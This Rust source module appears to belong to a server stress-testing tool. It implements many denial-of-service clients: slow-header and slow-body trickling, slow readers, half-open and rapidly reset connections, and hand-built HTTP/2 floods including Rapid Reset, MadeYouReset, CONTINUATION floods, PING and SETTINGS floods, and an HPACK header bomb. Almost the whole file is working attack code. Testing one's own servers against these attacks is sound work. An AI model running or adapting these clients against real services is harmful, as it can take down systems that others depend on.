//! Clients that misbehave, all of one kind at a time, in a process of their own. Each begins again when it is shown
//! out.

use std::{cell::Cell, io, net::SocketAddr, rc::Rc, time::Duration};

use clap::ValueEnum;
use socket2::SockRef;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, copy, sink},
    net::{TcpSocket, TcpStream},
    runtime::{Builder, LocalOptions},
    task::spawn_local,
    time::{sleep, timeout},
};

/// What they do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(super) enum Kind {
    /// Nobody does anything
    Nobody,
    /// Heads that go on for ever, a byte per second
    SlowHead,
    /// The same with bodies
    SlowBody,
    /// Large answers that are hardly read
    SlowReader,
    /// Connections on which nothing is said
    HalfOpen,
    /// Connections that are opened and broken off at once
    Connections,
    /// Requests over HTTP/2 that are taken back at once
    RapidReset,
    /// HTTP/2 frames that want an answer: PING
    Pings,
    /// The same: SETTINGS
    Settings,
    /// A body of nothing but empty DATA
    EmptyData,
    /// Windows that are opened by a byte each
    Windows,
    /// A head that goes on and on: CONTINUATION
    Continuations,
    /// Requests that the server has to take back: `MadeYouReset`
    MadeReset,
    /// Heads of a field that is repeated 20,000 times, in a byte each, by who takes no answer
    Bomb,
}

impl Kind {
    /// How many connections it has at once.
    const fn connections(self) -> usize {
        match self {
            Self::Nobody => 0,
            Self::SlowHead | Self::HalfOpen => 8000,
            Self::SlowBody => 2000,
            Self::SlowReader => 500,
            Self::Connections => 16,
            _ => 4,
        }
    }

    /// What is counted.
    pub(super) const fn counted(self) -> &'static str {
        match self {
            Self::Nobody | Self::SlowHead | Self::SlowBody | Self::HalfOpen | Self::Connections => "connections",
            Self::SlowReader => "answers begun",
            Self::Bomb => "requests",
            _ => "frames",
        }
    }
}

const SECOND: Duration = Duration::from_secs(1);

/// Frames that are sent at once.
const BATCH: usize = 100;

/// Client preface, and SETTINGS of its own.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// In SETTINGS: that nothing may be sent on a stream.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// A field of its own, to be remembered, and the same once more.
const FIELD: &[u8] = b"\x40\x03x-a\x01y";
const AGAIN: u8 = 0xbe;

/// Goes on for so long, and prints how much it has done.
pub(super) fn run(kind: Kind, addr: SocketAddr, token: &str, length: Duration) -> io::Result<()> {
    let done = Rc::new(Cell::new(0_u64));
    let runtime = Builder::new_current_thread().enable_all().build_local(LocalOptions::default())?;
    runtime.block_on(async {
        for nth in 0..kind.connections() {
            let attacker = Attacker { addr, token: token.to_owned(), done: Rc::clone(&done) };
            spawn_local(async move {
                // Not all in the same moment.
                sleep(SECOND * u32::try_from(nth).unwrap_or(0) / 10_000).await;
                attacker.go_on(kind).await;
            });
        }
        sleep(length).await;
    });
    println!("{}", done.get());
    Ok(())
}

struct Attacker {
    addr: SocketAddr,
    token: String,
    done: Rc<Cell<u64>>,
}

impl Attacker {
    async fn go_on(&self, kind: Kind) {
        loop {
            // However it ends, it begins again; but nobody who is refused spins.
            if self.connection(kind).await.is_err() {
                sleep(Duration::from_millis(1)).await;
            }
        }
    }

    fn count(&self, more: usize) {
        self.done.set(self.done.get() + more as u64);
    }

    /// From its beginning to its end.
    async fn connection(&self, kind: Kind) -> io::Result<()> {
        match kind {
            Kind::Nobody => Ok(()),
            Kind::SlowHead => self.trickle("GET /api/items", "X-Slow: ").await,
            Kind::SlowBody => self.trickle("POST /api/items", "Content-Length: 1000000\r\n\r\n").await,
            Kind::SlowReader => self.read_slowly().await,
            Kind::HalfOpen => {
                let mut stream = self.connect().await?;
                stream.read(&mut [0]).await.map(drop)
            }
            Kind::Connections => {
                let stream = self.connect().await?;
                // A reset leaves no port in use behind it.
                SockRef::from(&stream).set_linger(Some(Duration::ZERO))
            }
            _ => self.flood(kind).await,
        }
    }

    async fn connect(&self) -> io::Result<TcpStream> {
        let stream = TcpStream::connect(self.addr).await?;
        self.count(1);
        Ok(stream)
    }

    fn head(&self, request: &str) -> String {
        format!("{request} HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer {}\r\n", self.token)
    }

    /// Begins like this, and goes on with a byte per second.
    async fn trickle(&self, request: &str, rest: &str) -> io::Result<()> {
        let mut stream = self.connect().await?;
        stream.write_all((self.head(request) + rest).as_bytes()).await?;
        loop {
            // Whatever is said to it ends it.
            if let Ok(read) = timeout(SECOND, stream.read(&mut [0; 1024])).await {
                return read.map(drop);
            }
            stream.write_all(b"a").await?;
        }
    }

    async fn read_slowly(&self) -> io::Result<()> {
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(4096)?;
        let mut stream = socket.connect(self.addr).await?;
        self.count(1);
        stream.write_all((self.head("GET /big") + "\r\n").as_bytes()).await?;
        while stream.read(&mut [0; 1024]).await? > 0 {
            sleep(SECOND).await;
        }
        Ok(())
    }

    /// Frame after frame, and what is answered goes nowhere.
    async fn flood(&self, kind: Kind) -> io::Result<()> {
        let (mut answers, mut stream) = TcpStream::connect(self.addr).await?.into_split();
        spawn_local(async move { copy(&mut answers, &mut sink()).await });
        stream.write_all(PREFACE).await?;
        let (get, post) = (self.request(2), self.request(3));
        let beginning = match kind {
            Kind::Bomb => frame(SETTINGS, 0, 0, &NO_WINDOW),
            Kind::Continuations => frame(HEADERS, END_STREAM, 1, &get),
            // To a body there has to be a request.
            _ => frame(HEADERS, END_HEADERS, 1, &post),
        };
        stream.write_all(&beginning).await?;
        for next in (3..).step_by(2 * BATCH) {
            let streams = (next..).step_by(2).take(if kind == Kind::Bomb { 1 } else { BATCH });
            let batch: Vec<Vec<u8>> = streams
                .map(|stream| match kind {
                    Kind::RapidReset => {
                        let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &get);
                        [request, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
                    }
                    Kind::MadeReset => {
                        let request = frame(HEADERS, END_HEADERS, stream, &post);
                        [request, frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
                    }
                    Kind::Bomb => {
                        let head = [&get, FIELD, &[AGAIN; 16_000]].concat();
                        let rest = frame(CONTINUATION, END_HEADERS, stream, &[AGAIN; 4000]);
                        [frame(HEADERS, END_STREAM, stream, &head), rest].concat()
                    }
                    Kind::Continuations => frame(CONTINUATION, 0, 1, FIELD),
                    Kind::Pings => frame(PING, 0, 0, b"are you?"),
                    Kind::Settings => frame(SETTINGS, 0, 0, &[]),
                    Kind::EmptyData => frame(DATA, 0, 1, &[]),
                    _ => frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
                })
                .collect();
            stream.write_all(&batch.concat()).await?;
            self.count(batch.len());
        }
        Ok(())
    }

    /// The fields of a request whose method has this number in the static table.
    fn request(&self, method: u8) -> Vec<u8> {
        let mut block = vec![0x80 | method, 0x86];
        let bearer = format!("Bearer {}", self.token);
        // Named in the static table: :path, :authority, authorization.
        for (name, value) in [(&[0x04][..], "/api/items"), (&[0x01], "api.example.com"), (&[0x0f, 0x08], &bearer)] {
            block.extend_from_slice(name);
            block.push(u8::try_from(value.len()).unwrap_or(0));
            block.extend_from_slice(value.as_bytes());
        }
        block
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
